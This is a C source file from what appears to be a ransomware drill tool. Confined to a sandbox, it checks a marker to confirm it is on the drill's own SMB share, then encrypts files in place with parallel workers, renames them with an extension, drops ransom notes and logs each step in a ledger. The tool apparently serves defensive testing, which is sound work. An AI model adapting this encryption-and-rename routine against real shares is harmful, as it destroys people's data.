/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <errno.h>
#include <fcntl.h>
#include <libsmbclient.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/err.h"
#include "base/i18n.h"
#include "base/mem.h"
#include "base/path.h"
#include "drill/confine.h"
#include "drill/smb_client.h"

#define MAX_DEPTH 64

struct pc {
    const struct attack_options *options;
    struct ledger *ledger;
    uint8_t key[32];
    char **paths; /* owned */
    size_t count;
    struct buf url, other;
    char *last_folder; /* where the last note went; owned */
};

/* The server must show the very marker that the drill wrote: only then is it the drill's share. */
static int check_marker(const struct yard *yard)
{
    struct buf here BUF_AUTO, there BUF_AUTO;
    buf_init(&here, 4096);
    buf_init(&there, 4096);
    int fd = path_open_beneath(yard->share, YARD_MARKER, O_RDONLY | O_CLOEXEC, 0);
    if (fd < 0)
        return fd;
    void *room = buf_reserve(&here, 4096);
    ssize_t got = read(fd, room, 4096);
    close(fd);
    here.length = got > 0 ? (size_t)got : 0;
    int code = smb_client_read_small(YARD_MARKER, &there);
    if (code < 0)
        return err_set(ERR_PERMISSION, _("the server shows no marker of the drill: %s"), strerror(-code));
    if (here.length == 0 || here.length != there.length || memcmp(here.data, there.data, here.length) != 0)
        return err_set(ERR_PERMISSION, _("the server's share is not the one that the drill made"));
    return 0;
}

static int by_bytes(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static bool is_wanted(const struct pc *pc, const char *name)
{
    size_t length = strlen(name), tail = strlen(pc->options->extension);
    return strcmp(name, YARD_MARKER) != 0 && strcmp(name, ATTACK_NOTE) != 0 &&
           !(tail && length > tail && strcmp(name + length - tail, pc->options->extension) == 0);
}

static int list(struct pc *pc, const char *folder, int depth)
{
    int dir = smbc_opendir(smb_client_url(folder, &pc->url));
    if (dir < 0 || depth > MAX_DEPTH)
        return dir < 0 && errno == EACCES ? 0 : err_sys(_("cannot list %s on the server"), folder);
    int code = 0;
    for (struct smbc_dirent *d; code == 0 && (d = smbc_readdir((unsigned)dir));) {
        if (strcmp(d->name, ".") == 0 || strcmp(d->name, "..") == 0 || !is_wanted(pc, d->name))
            continue;
        char *path = path_join(folder, d->name);
        if (d->smbc_type == SMBC_FILE) {
            pc->paths = mem_resize(pc->paths, pc->count + 1, sizeof *pc->paths);
            pc->paths[pc->count++] = path;
            continue;
        }
        if (d->smbc_type == SMBC_DIR)
            code = list(pc, path, depth + 1);
        free(path);
    }
    smbc_closedir(dir);
    return code;
}

/* Reads, encrypts and writes back, a stretch at a time. */
static int encrypt(struct pc *pc, struct ledger_row *row)
{
    uint8_t room[ATTACK_STREAM];
    int fd = smbc_open(smb_client_url(row->path, &pc->url), O_RDWR, 0), code = 0;
    if (fd < 0)
        return -errno;
    for (uint64_t offset = 0; code == 0;) {
        ssize_t got = smbc_read(fd, room, sizeof room);
        if (got <= 0) {
            code = got < 0 ? -errno : 1;
            break;
        }
        attack_cipher(pc->key, row->path, offset, room, (size_t)got);
        if (smbc_lseek(fd, (off_t)offset, SEEK_SET) < 0 || smbc_write(fd, room, (size_t)got) != got)
            code = errno ? -errno : -EIO;
        offset += (uint64_t)got;
        if (code == 0)
            atomic_store(&row->bytes, offset);
        if (code == 0 && !row->spoiled_ns)
            row->spoiled_ns = ledger_now();
    }
    if (smbc_close(fd) < 0 && code >= 0)
        code = -errno;
    return code < 0 ? code : 0;
}

static int spoil(struct pc *pc, struct ledger_row *row)
{
    int code = encrypt(pc, row);
    if (code < 0)
        return code;
    if (!row->spoiled_ns)
        row->spoiled_ns = ledger_now();
    atomic_store(&row->stage, LEDGER_SPOILED);
    if (!*pc->options->extension)
        return 0;
    char *renamed MEM_AUTO = mem_printf("%s%s", row->path, pc->options->extension);
    if (smbc_rename(smb_client_url(row->path, &pc->url), smb_client_url(renamed, &pc->other)) < 0)
        return -errno;
    row->renamed_ns = ledger_now();
    atomic_store(&row->stage, LEDGER_RENAMED);
    return 0;
}

static void drop_note(struct pc *pc, const char *path, int worker)
{
    static const char text[] = "All your files are encrypted.\n\nThis is a drill: nobody asks for money.\n";
    const char *slash = strrchr(path, '/');
    char *folder = mem_printf("%.*s", slash ? (int)(slash - path) : 0, path);
    if (pc->last_folder && strcmp(folder, pc->last_folder) == 0) {
        free(folder);
        return;
    }
    free(pc->last_folder);
    pc->last_folder = folder;
    char *note MEM_AUTO = path_join(folder, ATTACK_NOTE);
    int fd = smbc_open(smb_client_url(note, &pc->url), O_WRONLY | O_CREAT | O_EXCL, 0644);
    struct ledger_row *row = fd >= 0 ? ledger_begin(pc->ledger, note, worker) : NULL;
    if (row) {
        row->note = 1;
        if (smbc_write(fd, text, sizeof text - 1) < 0)
            row->error = errno;
        row->spoiled_ns = ledger_now();
        atomic_store(&row->stage, LEDGER_SPOILED);
    }
    if (fd >= 0)
        smbc_close(fd);
}

/* A refusal that concerns one file alone; anything else means that the client was cut off. */
static bool goes_on_after(int error)
{
    return error == EACCES || error == EPERM || error == ENOENT || error == EBUSY || error == EEXIST;
}

static void work(struct pc *pc, int worker)
{
    uint32_t at;
    while ((at = atomic_fetch_add(&pc->ledger->next, 1)) < pc->count) {
        struct ledger_row *row = ledger_begin(pc->ledger, pc->paths[at], worker);
        if (!row)
            continue;
        int code = spoil(pc, row);
        if (code == 0 && pc->options->notes)
            drop_note(pc, row->path, worker);
        if (code == 0)
            continue;
        row->error = -code;
        if (!row->spoiled_ns)
            atomic_store(&row->stage, LEDGER_REFUSED);
        if (!goes_on_after(-code))
            return;
    }
}

static int give_up(struct ledger *ledger)
{
    snprintf(ledger->reason, sizeof ledger->reason, "%s", err_text());
    atomic_store(&ledger->failed, 1);
    atomic_store(&ledger->finished, 1);
    return 1;
}

static void start_workers(struct pc *pc)
{
    for (int worker = 1; worker < pc->options->workers; worker++) {
        if (fork() != 0)
            continue;
        if (smb_client_connect(STAGE_INFECTED_USER) == 0) /* a connection is not shared across fork */
            work(pc, worker);
        _exit(0);
    }
}

static int run_inside(struct pc *pc, const struct yard *yard)
{
    buf_init(&pc->url, 0);
    buf_init(&pc->other, 0);
    if (smb_client_connect(STAGE_INFECTED_USER) < 0 || check_marker(yard) < 0 || list(pc, "", 0) < 0)
        return give_up(pc->ledger);
    qsort(pc->paths, pc->count, sizeof *pc->paths, by_bytes);
    atomic_store(&pc->ledger->ready, 1);
    start_workers(pc);
    work(pc, 0);
    while (wait(NULL) > 0 || errno == EINTR)
        ;
    atomic_store(&pc->ledger->finished, 1);
    return 0;
}

int smb_attack_start(const struct stage *stage, const struct attack_options *options, struct ledger *ledger)
{
    struct yard *yard;
    int share, code = yard_open(stage->yard->share_path, &yard);
    if (code < 0)
        return code;
    struct confine walls = {.yard = yard, .netns = stage->net[STAGE_INFECTED], .uid = 65534, .gid = 65534};
    code = confine_note(&walls);
    snprintf(ledger->attack, sizeof ledger->attack, "in-place");
    snprintf(ledger->extension, sizeof ledger->extension, "%s", options->extension);
    pid_t pid = code < 0 ? -1 : fork();
    if (pid == 0) {
        struct pc pc = {.options = options, .ledger = ledger};
        memcpy(pc.key, yard->key, sizeof pc.key);
        if (confine_enter(&walls, &share) < 0)
            _exit(give_up(ledger));
        _exit(run_inside(&pc, yard));
    }
    yard_free(yard);
    if (code == 0 && pid < 0)
        code = err_sys(_("cannot start a process"));
    return code < 0 ? code : pid;
}
